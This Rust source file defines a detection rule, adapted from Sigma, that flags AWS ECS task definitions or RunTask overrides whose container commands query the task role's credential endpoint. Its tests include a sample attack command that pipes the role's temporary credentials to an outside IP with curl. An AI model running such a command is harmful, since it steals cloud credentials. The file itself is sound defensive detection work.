//! An ECS task definition or task whose container command reads the task role's
//! credential endpoint (`$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`): `RegisterTaskDefinition`
//! (container `command`, `entryPoint`), or `RunTask` (command overrides), successfully.
//!
//! Sigma also lists `DescribeTaskDefinition`, whose request carries no container
//! definitions; we leave it out (the read returns what a register call already
//! showed). Attempts count only when they succeed: a rejected definition runs nothing.

use serde_json::Value;

use crate::detection::{Detection, Meta, Severity, Signal, Trigger, fire};
use crate::detections::common::call_context;
use crate::event::Record;

pub struct EcsTaskDefinitionCredentialEndpoint;

const MARKER: &str = "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI";

pub static META: Meta = Meta {
    id: "ecs-task-definition-credential-endpoint",
    title: "AWS ECS Task Definition That Queries The Credential Endpoint",
    description: "An ECS task was defined or started with a command that reads the task \
                  role's credential endpoint. Ordinary applications let the SDK do that; a \
                  command that fetches it explicitly is typically sending the role's \
                  temporary credentials somewhere else.",
    severity: Severity::Medium,
    attack: &["T1552.005", "T1525"],
    origins: &["Sigma rules/cloud/aws/cloudtrail/aws_ecs_task_definition_cred_endpoint_query.yml"],
    group: "compute-network",
    false_positives: &[
        "Debugging or bootstrap scripts that print or cache credentials (a practice to \
         discourage anyway).",
    ],
    next_steps: "Read the full command of the task definition and where it sends the \
                 response. If the credentials left the task, revoke the role's sessions and \
                 review what the role did from outside AWS.",
    triggers: &[Trigger::write(
        "ecs.amazonaws.com",
        &["RegisterTaskDefinition", "RunTask"],
    )],
    window: None,
};

/// The command strings of container definitions or overrides: `command` and
/// `entryPoint`, each a list of strings (or one string in some producers).
fn command_strings(containers: Option<&Value>) -> Vec<&str> {
    let mut out = Vec::new();
    for c in containers.and_then(Value::as_array).into_iter().flatten() {
        for key in ["command", "entryPoint"] {
            match c.get(key) {
                Some(Value::Array(parts)) => out.extend(parts.iter().filter_map(Value::as_str)),
                Some(Value::String(s)) => out.push(s),
                _ => {}
            }
        }
    }
    out
}

impl Detection for EcsTaskDefinitionCredentialEndpoint {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn evaluate(&self, rec: &Record<'_>) -> Option<Signal> {
        if rec.event_source() != "ecs.amazonaws.com" || !rec.succeeded() {
            return None;
        }
        let commands = match rec.event_name() {
            "RegisterTaskDefinition" => command_strings(rec.request_param("containerDefinitions")),
            "RunTask" => command_strings(
                rec.request_param("overrides")
                    .and_then(|o| o.get("containerOverrides")),
            ),
            _ => return None,
        };
        let hit = commands.iter().find(|c| c.contains(MARKER))?;
        let e = call_context(rec)
            .with_opt("family", rec.request_param_str("family"))
            .with_opt("task_definition", rec.request_param_str("taskDefinition"))
            .with_opt("cluster", rec.request_param_str("cluster"))
            .with_opt("task_role_arn", rec.request_param_str("taskRoleArn"))
            .with("command", *hit);
        fire(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detections::common::compute_testing::{ACCESS_DENIED, IAM_USER, ROLE, record};
    use crate::detections::common::testing::fires;

    fn register(command: &str) -> String {
        format!(
            r#"{{"family":"worker","taskRoleArn":"arn:aws:iam::111122223333:role/WorkerTask",
            "containerDefinitions":[{{"name":"app","image":"public.ecr.aws/docker/library/alpine:3.20",
            "command":{command}}}]}}"#
        )
    }

    const STEAL: &str = r#"["sh","-c","curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.77/"]"#;

    #[test]
    fn fires_on_register_and_run_task_overrides() {
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", IAM_USER, &register(STEAL), "")));
        let as_text = register(r#""wget -qO- 169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}""#);
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &as_text, "")));
        let run = format!(r#"{{"cluster":"prod","taskDefinition":"worker:3","overrides":{{"containerOverrides":[{{"name":"app","command":{STEAL}}}]}}}}"#);
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RunTask", ROLE, &run, "")));
    }

    #[test]
    fn ordinary_commands_failures_and_missing_fields_do_not_fire() {
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register(r#"["python","worker.py"]"#), "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register("null"), "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register(STEAL), ACCESS_DENIED)));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, "null", "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "DeregisterTaskDefinition", ROLE, &register(STEAL), "")));
    }
}
